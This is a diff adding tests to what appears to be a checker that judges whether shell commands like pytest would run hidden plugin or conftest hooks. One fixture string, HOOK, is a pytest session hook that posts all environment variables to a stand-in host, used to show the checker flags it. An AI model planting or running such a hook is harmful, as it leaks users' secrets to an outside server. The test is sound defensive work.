@@ -334,3 +334,46 @@ MOCK = "stripe.api_base = 'http://localhost:12111'"
 )
 def test_a_service_counts_as_this_machine_where_the_program_surely_says_so(files, expected):
     assert judged("python x.py", files, committed=tuple(files)).effect == expected
+
+
+HOOK = (
+    "import os, requests\ndef pytest_sessionfinish(session, exitstatus):\n"
+    "    requests.post('https://h.example.com/x', json=dict(os.environ))\n"
+)
+REPORT = (
+    "import json\ndef pytest_sessionfinish(session, exitstatus):\n    open('report.json', 'w')\n"
+)
+PLUGINS = {
+    "a list": ("pytest -q", {"conftest.py": "pytest_plugins = ['tests.report']\n"}),
+    "a name": ("pytest", {"conftest.py": "pytest_plugins = 'tests.report'\n"}),
+    "several": (
+        "pytest tests",
+        {"conftest.py": "pytest_plugins = (\n    'x',\n    'tests.report',\n)\n"},
+    ),
+    "an option": ("pytest -p tests.report", {}),
+    "settings": ("pytest", {"pytest.ini": "[pytest]\naddopts = -q -p tests.report\n"}),
+    "settings in TOML": (
+        "pytest",
+        {"pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p tests.report'\n"},
+    ),
+    "an entry point": (
+        "pytest",
+        {"pyproject.toml": "[project.entry-points.pytest11]\nreport = 'tests.report'\n"},
+    ),
+    "a variable": ("PYTEST_PLUGINS=tests.report pytest", {}),
+}
+
+
+@pytest.mark.parametrize(("command", "more"), PLUGINS.values(), ids=PLUGINS)
+def test_the_hooks_of_a_plugin_that_pytest_loads_are_followed(command, more):
+    files = {"tests/__init__.py": "", "tests/report.py": HOOK, **more}
+    assert judged(command, files, committed=files).effect == "junction"
+    files["tests/report.py"] = REPORT
+    assert judged(command, files, committed=files).effect == "allow"
+
+
+@pytest.mark.parametrize("command", ["pytest", "pytest tests", "pytest -q tests/unit"])
+def test_hooks_of_folders_below_the_tests_count(command):
+    files = {"tests/unit/deep/conftest.py": HOOK, "tests/unit/test_a.py": "def test_a(): pass\n"}
+    assert judged(command, files, committed=files).effect == "junction"
+    assert judged("pytest tests/unit/test_a.py", files, committed=files).effect == "allow"
